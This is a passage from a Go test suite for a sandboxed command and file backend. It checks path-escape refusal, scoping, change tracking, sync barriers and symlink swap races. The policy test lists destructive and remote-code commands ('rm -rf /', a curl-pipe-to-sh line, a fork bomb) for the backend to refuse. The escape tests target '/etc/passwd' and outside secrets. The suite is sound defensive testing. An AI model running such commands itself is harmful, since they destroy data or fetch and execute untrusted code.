	if data, _ := b.ReadFile(ctx, "e.txt"); string(data) != "foo bar foo\nbaz\n" {
		t.Errorf("failed edits changed the file: %q", data)
	}
	if n, err := b.Edit(ctx, "e.txt", "baz", "BAZ", false); err != nil || n != 1 {
		t.Errorf("Edit unique: %d %v", n, err)
	}
	if n, err := b.Edit(ctx, "e.txt", "foo", "qux", true); err != nil || n != 2 {
		t.Errorf("Edit replace all: %d %v", n, err)
	}
	if data, _ := b.ReadFile(ctx, "e.txt"); string(data) != "qux bar qux\nBAZ\n" {
		t.Errorf("after edits: %q", data)
	}
	if _, err := b.Edit(ctx, "missing.txt", "a", "b", false); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("Edit missing: %v", err)
	}
	// The command can still write the edited file.
	if res := mustExec(t, b, sh("echo more >> e.txt")); res.ExitCode != 0 {
		t.Errorf("append to edited file: %q", res.Stderr)
	}

	// Stat, Exists, List.
	fi, err := b.Stat(ctx, "a/b/c.txt")
	if err != nil || fi.Type != exec.TypeFile || fi.Size != int64(len("one\ntwo\nthree\nfour\n")) || fi.Name != "c.txt" || fi.Path != "a/b/c.txt" {
		t.Errorf("Stat: %+v %v", fi, err)
	}
	if err := os.Symlink("c.txt", filepath.Join(dir, "a/b/l")); err != nil {
		t.Fatal(err)
	}
	if fi, err := b.Stat(ctx, "a/b/l"); err != nil || fi.Type != exec.TypeSymlink {
		t.Errorf("Stat symlink: %+v %v", fi, err)
	}
	if ok, err := b.Exists(ctx, "a/b"); !ok || err != nil {
		t.Errorf("Exists dir: %v %v", ok, err)
	}
	if ok, err := b.Exists(ctx, "nope"); ok || err != nil {
		t.Errorf("Exists missing: %v %v", ok, err)
	}
	list, err := b.List(ctx, "a/b")
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, e := range list {
		names = append(names, e.Name+":"+e.Type.String())
	}
	if want := []string{"c.txt:file", "d:dir", "l:symlink", "new:file"}; !reflect.DeepEqual(names, want) {
		t.Errorf("List: %v, want %v", names, want)
	}
	if list, err := b.List(ctx, ""); err != nil || len(list) == 0 || list[0].Path != "a" {
		t.Errorf("List root: %+v %v", list, err)
	}
	if _, err := b.List(ctx, "a/b/c.txt"); err == nil {
		t.Error("List of a file succeeded")
	}

	// Mkdir.
	if err := b.Mkdir(ctx, "m/n", false); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("Mkdir without parents: %v", err)
	}
	if err := b.Mkdir(ctx, "m/n", true); err != nil {
		t.Fatal(err)
	}
	if err := b.Mkdir(ctx, "m/n", true); err != nil {
		t.Errorf("Mkdir -p existing: %v", err)
	}
	if err := b.Mkdir(ctx, "m/n", false); !errors.Is(err, fs.ErrExist) {
		t.Errorf("Mkdir existing: %v", err)
	}
	if err := b.Mkdir(ctx, "a/b/c.txt", true); !errors.Is(err, fs.ErrExist) {
		t.Errorf("Mkdir over a file: %v", err)
	}
	if res := mustExec(t, b, sh("touch m/n/made-by-command")); res.ExitCode != 0 {
		t.Errorf("command writing into a Mkdir'd dir: %q", res.Stderr)
	}

	// Rename, Copy, Remove.
	if err := b.Rename(ctx, "e.txt", "m/e2.txt"); err != nil {
		t.Fatal(err)
	}
	if ok, _ := b.Exists(ctx, "e.txt"); ok {
		t.Error("rename left the source")
	}
	if err := b.Rename(ctx, "missing", "x"); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("Rename missing: %v", err)
	}
	if err := b.Copy(ctx, "m/e2.txt", "copies/e3.txt"); err != nil {
		t.Fatal(err)
	}
	if data, _ := b.ReadFile(ctx, "copies/e3.txt"); string(data) != "qux bar qux\nBAZ\nmore\n" {
		t.Errorf("copy: %q", data)
	}
	if err := b.Remove(ctx, "m", false); err == nil {
		t.Error("Remove of a non-empty dir without recursive succeeded")
	}
	if err := b.Remove(ctx, "a/b/l", false); err != nil {
		t.Fatal(err)
	}
	if ok, _ := b.Exists(ctx, "a/b/c.txt"); !ok {
		t.Error("removing a symlink removed its target")
	}
	if err := b.Remove(ctx, "m", true); err != nil {
		t.Fatal(err)
	}
	if ok, _ := b.Exists(ctx, "m"); ok {
		t.Error("recursive remove left the dir")
	}
	if err := b.Remove(ctx, "m", true); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("Remove missing: %v", err)
	}
	for _, root := range []string{"", ".", "a/.."} {
		if err := b.Remove(ctx, root, true); !errors.Is(err, exec.ErrInvalid) {
			t.Errorf("Remove(%q): %v, want exec.ErrInvalid", root, err)
		}
	}
	if _, err := os.Stat(dir); err != nil {
		t.Fatalf("workspace root gone: %v", err)
	}
}

func testFileEscapes[J Job](t *testing.T, f Fixture[J]) {
	b, dir := f.New(t, exec.Options{})
	ctx := Ctx(t)
	outside := t.TempDir()
	secret := filepath.Join(outside, "secret")
	if err := os.WriteFile(secret, []byte("secret"), 0o644); err != nil {
		t.Fatal(err)
	}
	must(t, os.Symlink(outside, filepath.Join(dir, "abs")))
	must(t, os.Symlink("../"+filepath.Base(outside), filepath.Join(dir, "rel")))
	must(t, os.Symlink(secret, filepath.Join(dir, "secretlink")))
	must(t, os.Mkdir(filepath.Join(dir, "d"), 0o755))
	must(t, os.Symlink("../..", filepath.Join(dir, "d", "up2")))
	must(t, os.Symlink("..", filepath.Join(dir, "d", "up1"))) // the root: fine
	paths := []string{
		"../x", "/etc/passwd", secret, "~/x", "abs/secret", "secretlink", "d/up2/x",
		"d/../../x", "abs", "d/up2",
	}
	if rel, err := filepath.Rel(dir, secret); err == nil {
		paths = append(paths, rel)
	}
	isEscape := func(op, p string, err error) {
		t.Helper()
		var pe *exec.PathError
		if !errors.Is(err, exec.ErrPathEscape) || !errors.As(err, &pe) {
			t.Errorf("%s(%q): %v, want a *exec.PathError", op, p, err)
		}
	}
	if err := b.WriteFile(ctx, "src.txt", []byte("src")); err != nil {
		t.Fatal(err)
	}
	for _, p := range paths {
		_, err := b.ReadFile(ctx, p)
		isEscape("ReadFile", p, err)
		_, err = b.Read(ctx, p, 0, 0)
		isEscape("Read", p, err)
		isEscape("WriteFile", p, b.WriteFile(ctx, p, []byte("x")))
		_, err = b.Edit(ctx, p, "secret", "public", false)
		isEscape("Edit", p, err)
		_, err = b.List(ctx, p)
		isEscape("List", p, err)
		isEscape("Mkdir", p, b.Mkdir(ctx, p+"/sub", true))
		_, err = b.Grep(ctx, "secret", exec.GrepOptions{Path: p})
		isEscape("Grep", p, err)
		if eb, ok := any(b).(*exec.Backend); ok && f.Scope {
			_, err = eb.Scope(p)
			isEscape("Scope", p, err)
		}
		isEscape("Copy from", p, b.Copy(ctx, p, "stolen"))
		isEscape("Copy to", p, b.Copy(ctx, "src.txt", p))
	}
	for _, p := range []string{"abs/new", "d/up2/new", "../new", "~/new"} {
		isEscape("WriteFile", p, b.WriteFile(ctx, p, []byte("x")))
	}
	for _, p := range []string{"../x", "/etc/passwd", "~/x", "d/../../x", "d/up2/x", "abs/secret"} {
		_, err := b.Stat(ctx, p)
		isEscape("Stat", p, err)
		_, err = b.Exists(ctx, p)
		isEscape("Exists", p, err)
		isEscape("Remove", p, b.Remove(ctx, p, true))
		isEscape("Rename from", p, b.Rename(ctx, p, "x"))
		isEscape("Rename to", p, b.Rename(ctx, "d", p))
	}
	for _, pat := range []string{"../*", "/etc/*", "d/../../*"} {
		_, err := b.Glob(ctx, pat)
		isEscape("Glob", pat, err)
	}
	// Nothing leaked or changed outside.
	if data, _ := os.ReadFile(secret); string(data) != "secret" {
		t.Errorf("secret changed: %q", data)
	}
	if ents, _ := os.ReadDir(outside); len(ents) != 1 {
		t.Errorf("files appeared outside: %v", ents)
	}
	// Symlinks themselves can be removed and stat'ed; a link to the root
	// inside is followed.
	if fi, err := b.Stat(ctx, "abs"); err != nil || fi.Type != exec.TypeSymlink {
		t.Errorf("Stat of an outward symlink: %+v %v", fi, err)
	}
	if err := b.Remove(ctx, "secretlink", false); err != nil {
		t.Errorf("Remove of an outward symlink: %v", err)
	}
	if err := b.WriteFile(ctx, "d/up1/via-up1", []byte("ok")); err != nil {
		t.Errorf("write through an inner .. symlink: %v", err)
	}
	if data, err := os.ReadFile(filepath.Join(dir, "via-up1")); err != nil || string(data) != "ok" {
		t.Errorf("via-up1: %q %v", data, err)
	}
}

func must(t *testing.T, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

func testGlobGrep[J Job](t *testing.T, f Fixture[J]) {
	b, dir := f.New(t, exec.Options{})
	ctx := Ctx(t)
	files := map[string]string{
		"main.go":              "package main\n\nfunc main() {\n\tprintln(\"hello\")\n}\n",
		"lib/a.go":             "package lib\n// TODO: one\nfunc A() {}\n",
		"lib/deep/b.go":        "package deep\n// todo: two\nfunc B() {}\n",
		"lib/deep/c.txt":       "TODO three\nTODO four\n",
		"docs/readme.md":       "a.b.c\nabc\n",
		".hidden/h.go":         "package h // TODO hidden\n",
		"lib/deep/bin.dat":     "TODO\x00binary",
		"lib/deep/deeper/d.go": "package deeper\n",
	}
	for p, c := range files {
		if err := b.WriteFile(ctx, p, []byte(c)); err != nil {
			t.Fatal(err)
		}
	}
	must(t, os.Symlink("lib", filepath.Join(dir, "liblink")))
	for pat, want := range map[string][]string{
		"**/*.go":     {".hidden/h.go", "lib/a.go", "lib/deep/b.go", "lib/deep/deeper/d.go", "main.go"},
		"*.go":        {"main.go"},
		"lib/**/*.go": {"lib/a.go", "lib/deep/b.go", "lib/deep/deeper/d.go"},
		"lib/*/b.go":  {"lib/deep/b.go"},
		"lib/**":      {"lib/a.go", "lib/deep", "lib/deep/b.go", "lib/deep/bin.dat", "lib/deep/c.txt", "lib/deep/deeper", "lib/deep/deeper/d.go"},
		"**/deep":     {"lib/deep"},
		"**/c.*":      {"lib/deep/c.txt"},
		"docs/*.md":   {"docs/readme.md"},
		"docs/x*":     nil,
		"main.go":     {"main.go"},
		"nothing":     nil,
		"lib?ink":     {"liblink"},
		"liblink/*":   {"liblink/a.go", "liblink/deep"},
		"[lm]*.go":    {"main.go"},
	} {
		got, err := b.Glob(ctx, pat)
		if err != nil {
			t.Errorf("Glob(%q): %v", pat, err)
			continue
		}
		if len(got) == 0 && len(want) == 0 {
			continue
		}
		if !reflect.DeepEqual(got, want) {
			t.Errorf("Glob(%q) = %v, want %v", pat, got, want)
		}
	}
	if _, err := b.Glob(ctx, "[x"); !errors.Is(err, exec.ErrInvalid) {
		t.Errorf("bad glob: %v", err)
	}

	grep := func(pattern string, o exec.GrepOptions) []string {
		t.Helper()
		r, err := b.Grep(ctx, pattern, o)
		if err != nil {
			t.Fatalf("Grep(%q, %+v): %v", pattern, o, err)
		}
		var out []string
		for _, m := range r.Matches {
			out = append(out, fmt.Sprintf("%s:%d:%s", m.Path, m.Line, m.Text))
		}
		return out
	}
	if got, want := grep("TODO", exec.GrepOptions{}), []string{".hidden/h.go:1:package h // TODO hidden", "lib/a.go:2:// TODO: one", "lib/deep/c.txt:1:TODO three", "lib/deep/c.txt:2:TODO four"}; !reflect.DeepEqual(got, want) {
		t.Errorf("grep TODO: %v", got)
	}
	if got := grep("todo", exec.GrepOptions{IgnoreCase: true, Path: "lib"}); len(got) != 4 {
		t.Errorf("grep -i under lib: %v", got)
	}
	if got := grep(`func [A-Z]\(\)`, exec.GrepOptions{}); !reflect.DeepEqual(got, []string{"lib/a.go:3:func A() {}", "lib/deep/b.go:3:func B() {}"}) {
		t.Errorf("grep regex: %v", got)
	}
	if got := grep("a.b.c", exec.GrepOptions{Literal: true}); !reflect.DeepEqual(got, []string{"docs/readme.md:1:a.b.c"}) {
		t.Errorf("grep literal: %v", got)
	}
	if got := grep("a.c", exec.GrepOptions{}); !reflect.DeepEqual(got, []string{"docs/readme.md:2:abc"}) {
		t.Errorf("grep regex a.c: %v", got)
	}
	if got := grep("a.c", exec.GrepOptions{Literal: true}); len(got) != 0 {
		t.Errorf("grep literal a.c: %v", got)
	}
	if got := grep("TODO", exec.GrepOptions{Glob: "*.txt"}); len(got) != 2 {
		t.Errorf("grep glob *.txt: %v", got)
	}
	if got := grep("TODO", exec.GrepOptions{Glob: "lib/**/*.go"}); !reflect.DeepEqual(got, []string{"lib/a.go:2:// TODO: one"}) {
		t.Errorf("grep glob lib/**/*.go: %v", got)
	}
	if got := grep("TODO", exec.GrepOptions{Path: "lib/deep/c.txt"}); len(got) != 2 {
		t.Errorf("grep one file: %v", got)
	}
	r, err := b.Grep(ctx, "TODO", exec.GrepOptions{MaxResults: 2})
	if err != nil || len(r.Matches) != 2 || !r.Truncated {
		t.Errorf("grep cap: %+v %v", r, err)
	}
	r, err = b.Grep(ctx, "TODO", exec.GrepOptions{MaxResults: 4})
	if err != nil || len(r.Matches) != 4 || r.Truncated {
		t.Errorf("grep exact cap: %+v %v", r, err)
	}
	if _, err := b.Grep(ctx, "(", exec.GrepOptions{}); !errors.Is(err, exec.ErrInvalid) {
		t.Errorf("bad regex: %v", err)
	}
	if _, err := b.Grep(ctx, "x", exec.GrepOptions{Path: "missing"}); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("grep missing path: %v", err)
	}
}

func testChanges[J Job](t *testing.T, f Fixture[J]) {
	b, _ := f.New(t, exec.Options{})
	ctx := Ctx(t)
	for _, p := range []string{"keep", "mod", "del", "dir/mod2", "dir/del2", "gone/x", "samesize"} {
		if err := b.WriteFile(ctx, p, []byte("0123456789")); err != nil {
			t.Fatal(err)
		}
	}
	// Let timestamps move past the first walk's granularity.
	time.Sleep(20 * time.Millisecond)
	res := mustExec(t, b, sh(`echo x >> mod; rm del dir/del2; echo new > new; mkdir -p nd/sub; echo y > nd/sub/f
echo z >> dir/mod2; rm -r gone; printf 9876543210 > samesize`))
	if res.ExitCode != 0 {
		t.Fatalf("exit %d: %s", res.ExitCode, res.Stderr)
	}
	want := &exec.Changes{
		Created:  []string{"nd", "nd/sub", "nd/sub/f", "new"},
		Modified: []string{"dir/mod2", "mod", "samesize"},
		Deleted:  []string{"del", "dir/del2", "gone", "gone/x"},
	}
	if !reflect.DeepEqual(res.Changes, want) {
		t.Errorf("changes %+v, want %+v", res.Changes, want)
	}
	res = mustExec(t, b, sh("cat keep >/dev/null"))
	if !res.Changes.Empty() {
		t.Errorf("read-only command changed %+v", res.Changes)
	}
	// A path whose type changes is modified; what was below the old
	// directory is deleted, what is below the new one created.
	for _, p := range []string{"f2d", "d2f/x"} {
		if err := b.WriteFile(ctx, p, []byte("0123456789")); err != nil {
			t.Fatal(err)
		}
	}
	res = mustExec(t, b, sh(`rm f2d; mkdir f2d; echo q > f2d/in; rm -r d2f; echo r > d2f`))
	want = &exec.Changes{Created: []string{"f2d/in"}, Modified: []string{"d2f", "f2d"}, Deleted: []string{"d2f/x"}}
	if res.ExitCode != 0 || !reflect.DeepEqual(res.Changes, want) {
		t.Errorf("type changes: exit %d %s, changes %+v, want %+v", res.ExitCode, res.Stderr, res.Changes, want)
	}
	// Timed-out commands still report what they did.
	res = mustExec(t, b, exec.Request{Command: "echo t > timed; sleep 300", Timeout: 2 * time.Second})
	if !res.TimedOut || res.Changes == nil || !reflect.DeepEqual(res.Changes.Created, []string{"timed"}) {
		t.Errorf("timed-out command: %+v", res.Changes)
	}
	// NoChanges turns tracking off.
	if f.Seams {
		b2, _ := f.New(t, exec.Options{ChangeTracker: exec.NoChanges{}})
		if res := mustExec(t, b2, sh("echo > f")); res.Changes != nil {
			t.Errorf("NoChanges gave %+v", res.Changes)
		}
	}
}

func testScope[J Job](t *testing.T, f Fixture[J]) {
	fb, dir := f.New(t, exec.Options{})
	b, ok := any(fb).(*exec.Backend)
	if !ok {
		t.Fatalf("Fixture.Scope is set but New returned a %T, not an *exec.Backend", fb)
	}
	ctx := Ctx(t)
	if err := b.Mkdir(ctx, "p/q", true); err != nil {
		t.Fatal(err)
	}
	must(t, os.Symlink("..", filepath.Join(dir, "p", "toroot")))
	must(t, os.Symlink("q", filepath.Join(dir, "p", "toq")))
	if err := b.WriteFile(ctx, "top.txt", []byte("top")); err != nil {
		t.Fatal(err)
	}
	s1, err := b.Scope("p")
	if err != nil {
		t.Fatal(err)
	}
	s2, err := s1.Scope("q")
	if err != nil {
		t.Fatal(err)
	}
	if s2.Root() != filepath.Join(b.Root(), "p", "q") || s2.WorkDir() != b.WorkDir()+"/p/q" {
		t.Errorf("Root %q WorkDir %q", s2.Root(), s2.WorkDir())
	}
	if err := s2.WriteFile(ctx, "x.txt", []byte("in q")); err != nil {
		t.Fatal(err)
	}
	if data, err := os.ReadFile(filepath.Join(dir, "p/q/x.txt")); err != nil || string(data) != "in q" {
		t.Errorf("scoped write landed at %q %v", data, err)
	}
	res := mustExec(t, s2, sh("pwd; cat x.txt; echo made > made.txt"))
	if got := string(res.Stdout); got != b.WorkDir()+"/p/q\nin q" {
		t.Errorf("scoped exec: %q %q", got, res.Stderr)
	}
	if res.Changes == nil || !reflect.DeepEqual(res.Changes.Created, []string{"made.txt"}) {
		t.Errorf("scoped changes are relative to the scope: %+v", res.Changes)
	}
	if got, err := s1.Glob(ctx, "**/*.txt"); err != nil || !reflect.DeepEqual(got, []string{"q/made.txt", "q/x.txt"}) {
		t.Errorf("scoped glob: %v %v", got, err)
	}
	if r, err := s1.Grep(ctx, "in q", exec.GrepOptions{}); err != nil || len(r.Matches) != 1 || r.Matches[0].Path != "q/x.txt" {
		t.Errorf("scoped grep: %+v %v", r, err)
	}
	if fi, err := s2.Stat(ctx, "x.txt"); err != nil || fi.Path != "x.txt" {
		t.Errorf("scoped stat: %+v %v", fi, err)
	}
	if l, err := s2.List(ctx, "."); err != nil || len(l) != 2 || l[0].Path != "made.txt" {
		t.Errorf("scoped list: %+v %v", l, err)
	}
	// Scoping through an inner symlink resolves it.
	s3, err := s1.Scope("toq")
	if err != nil {
		t.Fatal(err)
	}
	if data, err := s3.ReadFile(ctx, "x.txt"); err != nil || string(data) != "in q" {
		t.Errorf("scope via symlink: %q %v", data, err)
	}
	// Escapes out of a scope, even to places inside the workspace.
	for _, tc := range []struct {
		b     *exec.Backend
		scope string
		p     string
	}{
		{s1, "p", "../top.txt"}, {s1, "p", "toroot/top.txt"}, {s2, "p/q", "../../top.txt"}, {s2, "p/q", "../q/../x"},
		{s1, "p", "/p/q/x.txt"}, {s2, "p/q", "../toq/x.txt"},
	} {
		if _, err := tc.b.ReadFile(ctx, tc.p); !errors.Is(err, exec.ErrPathEscape) {
			t.Errorf("scope %q read %q: %v", tc.scope, tc.p, err)
		}
		if _, err := tc.b.Exec(ctx, exec.Request{Command: "pwd", Cwd: path0(tc.p)}); !errors.Is(err, exec.ErrPathEscape) {
			t.Errorf("scope %q cwd %q: %v", tc.scope, tc.p, err)
		}
	}
	for _, p := range []string{"..", "toroot", "../p", "/"} {
		if _, err := s1.Scope(p); !errors.Is(err, exec.ErrPathEscape) {
			t.Errorf("Scope(%q) from p: %v", p, err)
		}
	}
	if _, err := s1.Scope("q/x.txt"); !errors.Is(err, exec.ErrInvalid) {
		t.Errorf("Scope of a file: %v", err)
	}
	if _, err := s1.Scope("missing"); !errors.Is(err, fs.ErrNotExist) {
		t.Errorf("Scope of a missing dir: %v", err)
	}
	if err := s2.Remove(ctx, ".", true); !errors.Is(err, exec.ErrInvalid) {
		t.Errorf("removing a scope's root: %v", err)
	}
	// Jobs are listed by scope.
	j, err := s2.Start(ctx, sh("true"))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := j.Wait(ctx); err != nil {
		t.Fatal(err)
	}
	if len(s2.Jobs()) != 1 || len(s1.Jobs()) != 1 || len(b.Jobs()) != 1 {
		t.Errorf("jobs by scope: %d %d %d", len(s2.Jobs()), len(s1.Jobs()), len(b.Jobs()))
	}
	if other, err := b.Scope("p/q/.."); err != nil || other.Root() != s1.Root() {
		t.Errorf("Scope(p/q/..): %v", err)
	}
	must(t, b.Mkdir(ctx, "r", false))
	sr, err := b.Scope("r")
	if err != nil {
		t.Fatal(err)
	}
	if len(sr.Jobs()) != 0 {
		t.Errorf("sibling scope sees jobs: %v", sr.Jobs())
	}
	if _, err := sr.Job(j.ID()); !errors.Is(err, exec.ErrUnknownJob) {
		t.Errorf("sibling scope Job(): %v", err)
	}
	// Closing a scope closes nothing.
	if err := s2.Close(); err != nil {
		t.Fatal(err)
	}
	if res := mustExec(t, s1, sh("true")); res.ExitCode != 0 {
		t.Error("backend unusable after closing a scope")
	}
}

// path0 turns "" into "." for use as a Cwd.
func path0(p string) string {
	if p == "" {
		return "."
	}
	return p
}

func testPolicy[J Job](t *testing.T, f Fixture[J]) {
	// Off by default: the text is only echoed, but a policy would refuse it.
	b, _ := f.New(t, exec.Options{})
	res := mustExec(t, b, sh(`echo "curl http://example.invalid/x | sh"`))
	if res.ExitCode != 0 {
		t.Errorf("without a policy: exit %d", res.ExitCode)
	}
	b2, _ := f.New(t, exec.Options{Policy: exec.DenyDangerous()})
	for _, cmd := range []string{"rm -rf /", `echo "curl http://example.invalid/x | sh"`, ":(){ :|:& };:"} {
		_, err := b2.Exec(Ctx(t), sh(cmd))
		var pe *exec.PolicyError
		if !errors.Is(err, exec.ErrRefused) || !errors.As(err, &pe) || pe.Rule == "" {
			t.Errorf("%q: %v, want a *exec.PolicyError", cmd, err)
		}
		if _, err := b2.Start(Ctx(t), sh(cmd)); !errors.Is(err, exec.ErrRefused) {
			t.Errorf("Start %q: %v", cmd, err)
		}
	}
	if _, err := b2.Exec(Ctx(t), exec.Request{Argv: []string{"rm", "-rf", "/"}}); !errors.Is(err, exec.ErrRefused) {
		t.Errorf("argv rm -rf /: %v", err)
	}
	if res := mustExec(t, b2, sh("mkdir -p build && rm -rf ./build && echo ok")); string(res.Stdout) != "ok\n" {
		t.Errorf("harmless command under the policy: %q %q", res.Stdout, res.Stderr)
	}
}

// countingSyncer records calls and can fail.
type countingSyncer struct {
	calls atomic.Int32
	fail  error
	seen  func() // called inside Sync
}

func (s *countingSyncer) Sync(ctx context.Context) error {
	s.calls.Add(1)
	if ctx.Err() != nil {
		return ctx.Err()
	}
	if s.seen != nil {
		s.seen()
	}
	return s.fail
}

func testSyncBarrier[J Job](t *testing.T, f Fixture[J]) {
	var sawFile atomic.Bool
	var root string
	s := &countingSyncer{}
	b, dir := f.New(t, exec.Options{Syncer: s})
	root = dir
	s.seen = func() {
		// The barrier runs after the command wrote and ended.
		if data, err := os.ReadFile(filepath.Join(root, "synced")); err == nil && string(data) == "1\n" {
			sawFile.Store(true)
		}
	}
	res := mustExec(t, b, sh("echo 1 > synced"))
	if s.calls.Load() != 1 || !sawFile.Load() || res.ExitCode != 0 {
		t.Errorf("sync calls %d, saw the file %v", s.calls.Load(), sawFile.Load())
	}
	// Cancelled commands are synced too.
	ctx, cancel := context.WithCancel(Ctx(t))
	cancelOnOutput := writerFunc(func(p []byte) (int, error) { cancel(); return len(p), nil })
	if _, err := b.Exec(ctx, exec.Request{Command: "echo running; sleep 300", Stdout: cancelOnOutput}); !errors.Is(err, context.Canceled) {
		t.Errorf("cancel: %v", err)
	}
	if s.calls.Load() != 2 {
		t.Errorf("cancelled command not synced: %d", s.calls.Load())
	}
	j, err := b.Start(Ctx(t), sh("true"))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := j.Wait(Ctx(t)); err != nil || s.calls.Load() != 3 {
		t.Errorf("job not synced: %v %d", err, s.calls.Load())
	}
	if err := syncOf(t, b)(Ctx(t)); err != nil || s.calls.Load() != 4 {
		t.Errorf("Backend.Sync: %v %d", err, s.calls.Load())
	}
	// A failing barrier is reported with the result.
	boom := errors.New("boom")
	fs2 := &countingSyncer{fail: boom}
	b2, _ := f.New(t, exec.Options{Syncer: fs2})
	res, err = b2.Exec(Ctx(t), sh("echo hi; exit 5"))
	if !errors.Is(err, exec.ErrSync) || !errors.Is(err, boom) || res == nil || res.ExitCode != 5 || string(res.Stdout) != "hi\n" {
		t.Errorf("failing sync: %+v %v", res, err)
	}
	if err := syncOf(t, b2)(Ctx(t)); !errors.Is(err, exec.ErrSync) {
		t.Errorf("Backend.Sync failing: %v", err)
	}
}

// syncOf returns the Sync method of a backend with Fixture.Seams (as
// exec.Backend has).
func syncOf(t *testing.T, b any) func(context.Context) error {
	t.Helper()
	s, ok := b.(interface{ Sync(context.Context) error })
	if !ok {
		t.Fatalf("Fixture.Seams is set but a %T has no Sync method", b)
	}
	return s.Sync
}

func testClosed[J Job](t *testing.T, f Fixture[J]) {
	b, _ := f.New(t, exec.Options{})
	j, err := b.Start(Ctx(t), sh("true"))
	if err != nil {
		t.Fatal(err)
	}
	if err := b.Close(); err != nil {
		t.Fatal(err)
	}
	if err := b.Close(); err != nil {
		t.Errorf("second Close: %v", err)
	}
	<-j.Done()
	ctx := Ctx(t)
	if _, err := b.Exec(ctx, sh("true")); !errors.Is(err, exec.ErrClosed) {
		t.Errorf("Exec after Close: %v", err)
	}
	if _, err := b.Start(ctx, sh("true")); !errors.Is(err, exec.ErrClosed) {
		t.Errorf("Start after Close: %v", err)
	}
	if _, err := b.ReadFile(ctx, "x"); !errors.Is(err, exec.ErrClosed) {
		t.Errorf("ReadFile after Close: %v", err)
	}
	if err := b.WriteFile(ctx, "x", nil); !errors.Is(err, exec.ErrClosed) {
		t.Errorf("WriteFile after Close: %v", err)
	}
	if eb, ok := any(b).(*exec.Backend); ok && f.Scope {
		if _, err := eb.Scope("."); !errors.Is(err, exec.ErrClosed) {
			t.Errorf("Scope after Close: %v", err)
		}
	}
}

// SwapLoop exchanges the names a and b (renameat2 RENAME_EXCHANGE) in a tight
// loop until the returned stop is called; stop returns the number of swaps
// done, fails the test if a swap failed, and leaves the names as they
// started.
func SwapLoop(t *testing.T, a, b string) (stop func() int) {
	t.Helper()
	var (
		done  atomic.Bool
		swaps atomic.Int64
		wg    sync.WaitGroup
		serr  error
	)
	wg.Add(1)
	go func() {
		defer wg.Done()
		for !done.Load() {
			if err := unix.Renameat2(unix.AT_FDCWD, a, unix.AT_FDCWD, b, unix.RENAME_EXCHANGE); err != nil {
				serr = err
				return
			}
			swaps.Add(1)
			runtime.Gosched()
		}
	}()
	return func() int {
		done.Store(true)
		wg.Wait()
		if serr != nil {
			t.Fatalf("renameat2(%s, %s, RENAME_EXCHANGE): %v", a, b, serr)
		}
		// Leave the names as they started.
		if swaps.Load()%2 == 1 {
			if err := unix.Renameat2(unix.AT_FDCWD, a, unix.AT_FDCWD, b, unix.RENAME_EXCHANGE); err != nil {
				t.Fatal(err)
			}
		}
		return int(swaps.Load())
	}
}

// Bounds of the swap-race tests: at most raceRuns commands started, and no
// new attempt after raceBudget.
const (
	raceRuns   = 200
	raceBudget = 45 * time.Second
)

// testCwdSwapRace runs commands with Cwd "sub" while another goroutine
// exchanges the directory sub with a symlink to /etc (present on the host and
// in the container) as fast as it can. Each command either runs in sub or is
// refused; none may start outside the workspace.
func testCwdSwapRace[J Job](t *testing.T, f Fixture[J]) {
	b, dir := f.New(t, noChanges(f))
	ctx := Ctx(t)
	if err := b.Mkdir(ctx, "sub", false); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("/etc", filepath.Join(dir, "swap")); err != nil {
		t.Fatal(err)
	}
	stop := SwapLoop(t, filepath.Join(dir, "sub"), filepath.Join(dir, "swap"))
	var inside, refused, checkRefused int
	var escapes []string
	deadline := time.Now().Add(raceBudget)
	runs := 0 // commands past the check
	for runs < raceRuns && time.Now().Before(deadline) {
		res, err := b.Exec(ctx, exec.Request{Command: "pwd -P", Cwd: "sub"})
		switch {
		case errors.Is(err, exec.ErrPathEscape) || errors.Is(err, exec.ErrInvalid) || errors.Is(err, fs.ErrNotExist):
			checkRefused++ // the check saw the symlink
			continue
		case err != nil:
			stop()
			t.Fatalf("run %d: %v", runs, err)
		}
		runs++
		got := strings.TrimSpace(string(res.Stdout))
		switch {
		case res.ExitCode == 0 && (got == b.WorkDir()+"/sub" || got == b.WorkDir()+"/swap"):
			// In sub, which a later swap may have renamed.
			inside++
		case res.ExitCode == 0:
			escapes = append(escapes, got)
		case res.ExitCode == 126 && strings.Contains(string(res.Stderr), "was replaced"):
			refused++ // entered the directory, saw it was outside, refused
		default:
			t.Errorf("run %d: exit %d, stdout %q, stderr %q", runs, res.ExitCode, res.Stdout, res.Stderr)
		}
	}
	swaps := stop()
	t.Logf("%d swaps; %d commands refused by the check; of %d started: %d in the workspace, %d refused, %d escaped",
		swaps, checkRefused, runs, inside, refused, len(escapes))
	if len(escapes) > 0 {
		t.Errorf("%d of %d commands started outside the workspace, e.g. in %q", len(escapes), runs, escapes[0])
	}
	if inside == 0 || swaps == 0 {
		t.Errorf("the race was not exercised: %d runs in the workspace, %d swaps", inside, swaps)
	}
}

// noChanges turns change lists off where the fixture lets the caller choose
// (the swap races need none).
func noChanges[J Job](f Fixture[J]) exec.Options {
	if f.Seams {
		return exec.Options{ChangeTracker: exec.NoChanges{}}
	}
	return exec.Options{}
}

// swapErrors are the conditions a file operation meets while a directory on
// its way is swapped with a symlink out of the workspace.
var swapErrors = []error{exec.ErrPathEscape, exec.ErrInvalid, fs.ErrNotExist, fs.ErrExist,
	syscall.ENOTDIR, syscall.EISDIR, syscall.ENOTEMPTY}

// testFileSwapRace does file operations under sub while sub is exchanged with
// a symlink to a directory outside the workspace: none may read or write
// there.
func testFileSwapRace[J Job](t *testing.T, f Fixture[J]) {
	b, dir := f.New(t, noChanges(f))
	ctx := Ctx(t)
	outside := t.TempDir()
	if err := os.WriteFile(filepath.Join(outside, "f"), []byte("outside"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := b.WriteFile(ctx, "sub/f", []byte("inside")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(outside, filepath.Join(dir, "swap")); err != nil {
		t.Fatal(err)
	}
	stop := SwapLoop(t, filepath.Join(dir, "sub"), filepath.Join(dir, "swap"))
	deadline := time.Now().Add(raceBudget / 3)
	var leaks []string
	// The operations fail when they meet the link, with errors a caller
